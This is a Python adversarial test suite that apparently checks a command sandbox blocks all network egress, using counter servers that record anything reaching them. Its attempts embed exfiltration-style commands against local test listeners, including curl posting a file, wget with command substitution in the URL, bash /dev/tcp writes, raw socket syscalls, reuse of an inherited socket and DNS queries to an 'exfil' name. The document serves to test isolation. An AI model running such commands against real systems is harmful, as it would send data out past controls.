"""Adversarial: egress with allow_network = false. Host servers in the host's
namespaces (TCP on 127.0.0.1 and ::1 and the host's own address, UDP, a
pathname UNIX socket outside, an abstract one, NETLINK_USERSOCK, a DNS
listener) count what reaches them: nothing may. Tried through python, curl,
wget, bash's /dev/tcp, dig, the static probe, raw system calls and a socket
inherited from the agent."""

import os
import re
import secrets
import shutil
import socket
import struct
import subprocess
import tempfile

from adv_base import (PROBE_DIR, RUN_PATH, AdvCase, NetlinkCounter, TcpCounter, UdpCounter,
                      UnixCounter, landlock_abi, main, skip)


def dns_query(name):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", 1, 1)


class EgressTest(AdvCase):
    def control(self, argv):
        """Run the probe bare as the test user: the server is reachable outside."""
        p = subprocess.run(self.as_user([os.path.join(PROBE_DIR, "probe_static")] + argv),
                           capture_output=True, text=True)
        self.assertEqual(p.stdout.strip(), "0 0", "control: %s %s" % (p.stdout, p.stderr))

    def assertNothingArrived(self, *servers):
        for s in servers:
            self.assertEqual(s.settle(), 0, "the host's %s was reached: %r"
                             % (type(s).__name__, s.data[:200]))

    # --- TCP -------------------------------------------------------------------
    def test_tcp_python_to_the_host_loopback(self):
        t4 = self.server(TcpCounter())
        t6 = self.server(TcpCounter(socket.AF_INET6, "::1"))
        self.control(["connect-tcp", "127.0.0.1", str(t4.port)])
        t4.reset()
        body = ("for fam, addr, port in ((socket.AF_INET, '127.0.0.1', %d),"
                " (socket.AF_INET6, '::1', %d), (socket.AF_INET, '127.0.0.2', %d)):\n"
                "    def go():\n"
                "        c = socket.create_connection((addr, port), timeout=3)\n"
                "        c.sendall(open('src/plain.txt', 'rb').read())\n"
                "    attempt('%%s:%%d' %% (addr, port), go)\n"
                "finish()\n" % (t4.port, t6.port, t4.port))
        r = self.py(body)
        self.assertWorld(r)
        self.assertAllRefused(r)
        self.assertNothingArrived(t4, t6)

    def test_tcp_static_probe_and_raw_syscalls(self):
        t4 = self.server(TcpCounter())
        ps = self.probes["probe_static"]
        r = self.sh("chk %s connect-tcp 127.0.0.1 %d || chk %s connect-tcp 127.0.0.1 %d"
                    % (ps, t4.port, self.probes["probe"], t4.port))
        self.assertWorld(r, codes=(1,))
        body = ("import struct\n"
                "fd, e = sc('socket', socket.AF_INET, socket.SOCK_STREAM, 0)\n"
                "sa = struct.pack('<H', socket.AF_INET) + struct.pack('>H', %d) + "
                "socket.inet_aton('127.0.0.1') + bytes(8)\n"
                "attempt('raw connect', sc, 'connect', fd, sa, len(sa))\n"
                "attempt('raw send', sc, 'sendto', fd, b'leak', 4, 0, None, 0)\n"
                "fd, e = sc('socket', socket.AF_PACKET, socket.SOCK_RAW, 0x0300)\n"
                "attempt('packet socket', lambda: (fd, e))\n"
                "fd, e = sc('socket', socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)\n"
                "attempt('raw ip socket', lambda: (fd, e))\n"
                "finish()\n" % t4.port)
        r = self.py(body)
        self.assertWorld(r, codes=(1,))
        self.assertAllRefused(r)
        self.assertNothingArrived(t4)

    def test_tcp_to_the_hosts_own_address(self):
        addr = self.global_ipv4()
        if addr is None:
            skip(self, "the host has no global IPv4 address")
        t = self.server(TcpCounter(addr="0.0.0.0"))
        u = self.server(UdpCounter(addr="0.0.0.0"))
        ps = self.probes["probe_static"]
        r = self.py("attempt('tcp', lambda: socket.create_connection((%r, %d), timeout=3))\n"
                    "attempt('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
                    ".sendto(b'leak', (%r, %d)))\n"
                    "finish()\n" % (addr, t.port, addr, u.port))
        self.assertWorld(r, codes=(2,))
        self.assertAllRefused(r)
        r = self.sh("chk %s connect-tcp %s %d || chk %s udp-send %s %d"
                    % (ps, addr, t.port, ps, addr, u.port))
        self.assertWorld(r, codes=(1,))
        self.assertNothingArrived(t, u)

    def test_curl_wget_and_dev_tcp(self):
        t = self.server(TcpCounter())
        tools = [p for p in ("curl", "wget", "bash") if shutil.which(p, path=RUN_PATH)]
        if not tools:
            skip(self, "none of curl, wget, bash is installed")
        url = "http://127.0.0.1:%d/x?d=$(cat src/plain.txt | tr -d ' \\n')" % t.port
        script = []
        if "curl" in tools:
            script.append('curl -s -m 3 "%s"' % url)
            script.append('curl -s -m 3 --noproxy "*" -d @src/plain.txt http://127.0.0.1:%d/'
                          % t.port)
        if "wget" in tools:
            script.append('wget -q -T 3 -O- "%s"' % url)
        if "bash" in tools:
            script.append("bash -c 'echo leak > /dev/tcp/127.0.0.1/%d'" % t.port)
        r = self.sh(" || ".join(script) + " || exit 1", binaries=tools + ["tr"])
        self.assertWorld(r, codes=(1, 2))
        self.assertNothingArrived(t)

    def test_proxy_variables_of_the_agent(self):
        # the agent's environment names a proxy on the host: dropped with the
        # network off, and a proxy on the host's loopback is out of reach anyway
        t = self.server(TcpCounter())
        self.need("curl")
        proxy = "http://127.0.0.1:%d" % t.port
        r = self.sh("env | grep -i proxy; curl -s -m 3 http://example.invalid/ || "
                    "curl -s -m 3 -x %s http://example.invalid/" % proxy,
                    binaries=["curl", "env", "grep"],
                    env={"http_proxy": proxy, "https_proxy": proxy, "ALL_PROXY": proxy,
                         "HTTPS_PROXY": proxy})
        self.assertWorld(r, codes=(1, 2))
        self.assertNotIn(proxy, r.out)
        self.assertNothingArrived(t)

    def test_inherited_socket_of_the_agent(self):
        # the agent holds a connection to the host and runs paldron with it
        # open (no close-on-exec): the command must not be able to use it
        t = self.server(TcpCounter())
        c = socket.create_connection(("127.0.0.1", t.port))
        self.addCleanup(c.close)
        c.setblocking(True)
        fd = c.fileno()
        os.set_inheritable(fd, True)
        r = self.sh("echo LEAKED-%s >&%d; ls -l /proc/self/fd; exit 1" % ("x", fd),
                    binaries=["ls"], pass_fds=(fd,))
        self.assertWorld(r, codes=(1,))
        # the one connection the test made; nothing was sent over it
        self.assertEqual(t.settle(), 1)
        self.assertNotIn(b"LEAKED", t.data)

    # --- UDP -------------------------------------------------------------------
    def test_udp_datagrams_to_the_host(self):
        u4 = self.server(UdpCounter())
        u6 = self.server(UdpCounter(socket.AF_INET6, "::1"))
        self.control(["udp-send", "127.0.0.1", str(u4.port)])
        self.assertEqual(u4.settle(), 1, "control datagram")
        u4.reset()
        ps = self.probes["probe_static"]
        body = ("s4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                "s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n"
                "attempt('sendto4', s4.sendto, b'leak', ('127.0.0.1', %d))\n"
                "attempt('sendto6', s6.sendto, b'leak', ('::1', %d))\n"
                "attempt('sendmsg', s4.sendmsg, [b'leak'], [], 0, ('127.0.0.1', %d))\n"
                "def conn():\n"
                "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                "    s.connect(('127.0.0.1', %d)); s.send(b'leak'); s.send(b'leak')\n"
                "    return s.recv(1) if s.settimeout(1) is None else None\n"
                "attempt('connected', conn)\n"
                "finish()\n" % (u4.port, u6.port, u4.port, u4.port))
        r = self.py(body)
        # a datagram to 127.0.0.1 or ::1 goes to the run's own loopback: the
        # kernel accepts it (exit 0) and nothing leaves the run
        self.assertWorld(r, codes=(0, 1, 2))
        self.assertNothingArrived(u4, u6)
        r = self.sh("chk %s udp-send 127.0.0.1 %d; exit 1" % (ps, u4.port))
        self.assertWorld(r, codes=(1,))
        self.assertNothingArrived(u4)

    # --- UNIX ------------------------------------------------------------------
    def unix_attempts(self, path):
        ps = self.probes["probe_static"]
        r1 = self.sh("chk %s connect-unix %s; exit 1" % (ps, path))
        r2 = self.py("def go():\n    s = socket.socket(socket.AF_UNIX)\n    s.connect(%r)\n"
                     "    s.sendall(b'leak')\n"
                     "attempt('libc', go)\n"
                     "import struct\n"
                     "fd, e = sc('socket', socket.AF_UNIX, socket.SOCK_STREAM, 0)\n"
                     "p = %r.encode()\n"
                     "sa = struct.pack('<H', socket.AF_UNIX) + p + bytes(108 - len(p))\n"
                     "attempt('raw', sc, 'connect', fd, sa, len(sa))\n"
                     "finish()\n" % (path, path))
        return r1, r2

    def test_host_unix_socket_in_a_system_folder(self):
        d = tempfile.mkdtemp(prefix="pd-adv-", dir="/run")
        self.addCleanup(shutil.rmtree, d, True)
        os.chmod(d, 0o755)
        srv = self.server(UnixCounter(path=os.path.join(d, "sock")))
        self.control(["connect-unix", srv.path])
        srv.reset()
        for r in self.unix_attempts(srv.path):
            self.assertWorld(r, codes=(1,))
        self.assertNothingArrived(srv)

    def test_host_unix_socket_beside_the_workspace(self):
        # owned by the test user, in a folder next to the workspace
        path = os.path.join(self.outside, "agent.sock")
        srv = self.server(UnixCounter(path=path))
        os.chown(path, self.uid, self.gid)
        self.rebaseline()
        self.control(["connect-unix", srv.path])
        srv.reset()
        for r in self.unix_attempts(srv.path):
            self.assertWorld(r, codes=(1,))
        self.assertNothingArrived(srv)

    def test_host_abstract_unix_socket(self):
        if landlock_abi() < 6:
            skip(self, "abstract UNIX sockets are scoped from Landlock ABI 6 (this kernel: %d)"
                 % landlock_abi())
        name = "pd-adv-%s" % secrets.token_hex(6)
        srv = self.server(UnixCounter(abstract=name))
        self.control(["abstract-connect", name])
        srv.reset()
        ps = self.probes["probe_static"]
        r = self.sh("chk %s abstract-connect %s || chk %s abstract-connect %s"
                    % (ps, name, self.probes["probe"], name))
        self.assertWorld(r, codes=(1,))
        r = self.py("def go():\n    s = socket.socket(socket.AF_UNIX)\n    s.connect('\\0%s')\n"
                    "    s.sendall(b'leak')\nattempt('abstract', go)\nfinish()\n" % name)
        self.assertWorld(r, codes=(1,))
        self.assertNothingArrived(srv)

    # --- netlink and DNS -----------------------------------------------------------
    def test_netlink_usersock(self):
        nl = self.server(NetlinkCounter())
        body = ("fd, e = sc('socket', socket.AF_NETLINK, socket.SOCK_RAW, 2)\n"
                "attempt('raw socket', lambda: (fd, e))\n"
                "def go():\n"
                "    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2)\n"
                "    s.sendto(b'leak' * 8, (%d, 0))\n"
                "attempt('usersock', go)\n"
                "def uevent():\n"
                "    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15)\n"
                "    s.bind((0, 1)); s.settimeout(0.5); return s.recv(100)\n"
                "attempt('kobject uevent', uevent)\n"
                "def route():\n"
                "    import struct\n"
                "    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\n"
                "    # RTM_NEWADDR on lo, which needs CAP_NET_ADMIN\n"
                "    msg = struct.pack('=LHHLL', 40, 20, 0x605, 1, 0) + struct.pack('=BBBBI', 2, 8, 0, 0, 1)"
                " + struct.pack('=HH', 8, 1) + socket.inet_aton('10.9.8.7') + struct.pack('=HH', 8, 2) + socket.inet_aton('10.9.8.7')\n"
                "    s.sendto(msg[:16] + msg[16:], (0, 0))\n"
                "    s.settimeout(1); ack = s.recv(100)\n"
                "    err = struct.unpack('=i', ack[16:20])[0]\n"
                "    if err: raise OSError(-err, 'netlink')\n"
                "attempt('rtm_newaddr', route)\n"
                "finish()\n" % nl.portid)
        r = self.py(body)
        self.assertWorld(r, codes=(1,))
        self.assertAllRefused(r)
        self.assertNothingArrived(nl)

    def test_dns_lookups_and_queries(self):
        servers = []
        for port in (53, 0):
            try:
                u = UdpCounter(port=port)
                tc = TcpCounter(port=u.port)
            except OSError:
                continue
            servers = [self.server(u), self.server(tc)]
            break
        self.assertTrue(servers, "no DNS listener could be bound")
        port = servers[0].port
        name = "x%s.exfil.example" % secrets.token_hex(6)
        with open("/etc/resolv.conf") as f:
            ns = re.findall(r"^nameserver\s+(\S+)", f.read(), flags=re.M)
        body = ("q = %r\n"
                "attempt('getaddrinfo', socket.getaddrinfo, %r, 80)\n"
                "attempt('gethostbyname', socket.gethostbyname, %r)\n"
                "def udp(addr, port):\n"
                "    s = socket.socket(socket.AF_INET6 if ':' in addr else socket.AF_INET, socket.SOCK_DGRAM)\n"
                "    s.settimeout(1); s.sendto(q, (addr, port)); return s.recv(512)\n"
                "def tcp(addr, port):\n"
                "    s = socket.create_connection((addr, port), timeout=1)\n"
                "    s.sendall(len(q).to_bytes(2, 'big') + q); return s.recv(512)\n"
                "for addr, port in [('127.0.0.1', %d)] + [(a, 53) for a in %r]:\n"
                "    attempt('udp %%s:%%d' %% (addr, port), udp, addr, port)\n"
                "    attempt('tcp %%s:%%d' %% (addr, port), tcp, addr, port)\n"
                "finish()\n" % (dns_query(name), name, name, port, ns))
        r = self.py(body)
        self.assertWorld(r, codes=(1, 2))
        self.assertAllRefused(r)
        tools = [t for t in ("dig", "nslookup", "getent", "host") if shutil.which(t, path=RUN_PATH)]
        script = []
        if "dig" in tools:
            script.append("dig +time=1 +tries=1 @127.0.0.1 -p %d %s" % (port, name))
            script.append("dig +time=1 +tries=1 %s" % name)
        if "nslookup" in tools:
            script.append("nslookup -port=%d -timeout=1 %s 127.0.0.1" % (port, name))
        if "getent" in tools:
            script.append("getent hosts %s" % name)
        if script:
            r = self.sh(" || ".join(script) + " || exit 1", binaries=tools)
            self.assertWorld(r, codes=(1, 2))
        self.assertNothingArrived(*servers)


if __name__ == "__main__":
    main()
